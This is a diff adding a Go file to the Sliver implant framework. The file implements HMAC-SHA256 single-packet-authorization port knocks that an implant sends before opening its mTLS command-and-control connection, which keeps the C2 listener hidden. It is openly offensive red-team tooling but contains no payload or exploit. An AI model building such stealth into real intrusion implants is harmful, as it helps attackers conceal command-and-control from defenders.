@@ -0,0 +1,124 @@
+package mtls
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+// {{if .Config.MTLSc2Enabled}}
+
+import (
+	"crypto/hmac"
+	"crypto/rand"
+	"crypto/sha256"
+	"encoding/binary"
+	"encoding/hex"
+	"net"
+	"strconv"
+	"strings"
+	"time"
+
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+)
+
+const (
+	spaNonceSize = 16
+
+	// spaKnockDelay - Gives the server time to open its firewall before we connect
+	spaKnockDelay = 500 * time.Millisecond
+	// spaKnockInterval - Keeps the knocks of a sequence in order
+	spaKnockInterval = 100 * time.Millisecond
+)
+
+var (
+	// spaKey - The server's single packet authorization key (hex)
+	spaKey = `{{.Config.SPAKey}}`
+)
+
+// SPAKnock - Send a single packet authorization knock to each of the udp knock ports in
+// order, the server drops our connection if it didn't get them
+func SPAKnock(address string, knockPorts []uint16) error {
+	key, err := hex.DecodeString(spaKey)
+	if err != nil {
+		return err
+	}
+	for index, knockPort := range knockPorts {
+		if 0 < index {
+			time.Sleep(spaKnockInterval)
+		}
+		err = spaKnockPort(key, address, knockPort)
+		if err != nil {
+			return err
+		}
+	}
+	time.Sleep(spaKnockDelay)
+	return nil
+}
+
+func spaKnockPort(key []byte, address string, knockPort uint16) error {
+	packet, err := SPAKnockPacket(key, knockPort, time.Now())
+	if err != nil {
+		return err
+	}
+	conn, err := net.Dial("udp", net.JoinHostPort(address, strconv.Itoa(int(knockPort))))
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	_, err = conn.Write(packet)
+	if err != nil {
+		return err
+	}
+	// {{if .Config.Debug}}
+	log.Printf("Sent spa knock to %s:%d", address, knockPort)
+	// {{end}}
+	return nil
+}
+
+// SPAKnockPorts - The udp ports of an mtls c2's knock sequence, from the c2's "knock"
+// option (e.g. mtls://example.com:8888?knock=7001:7002), by default the c2's port
+func SPAKnockPorts(knock string, port uint16) []uint16 {
+	knockPorts := []uint16{}
+	for _, field := range strings.Split(knock, ":") {
+		knockPort, err := strconv.ParseUint(field, 10, 16)
+		if err == nil && knockPort != 0 {
+			knockPorts = append(knockPorts, uint16(knockPort))
+		}
+	}
+	if len(knockPorts) == 0 {
+		knockPorts = append(knockPorts, port)
+	}
+	return knockPorts
+}
+
+// SPAKnockPacket - [nonce|unix timestamp|hmac-sha256(nonce|timestamp|port)], the port is
+// the knock port the packet is sent to
+func SPAKnockPacket(key []byte, port uint16, now time.Time) ([]byte, error) {
+	packet := make([]byte, spaNonceSize, spaNonceSize+8+sha256.Size)
+	_, err := rand.Read(packet)
+	if err != nil {
+		return nil, err
+	}
+	packet = binary.BigEndian.AppendUint64(packet, uint64(now.Unix()))
+	mac := hmac.New(sha256.New, key)
+	mac.Write(packet)
+	mac.Write(binary.BigEndian.AppendUint16(nil, port))
+	return mac.Sum(packet), nil
+}
+
+// {{end}} -MTLSc2Enabled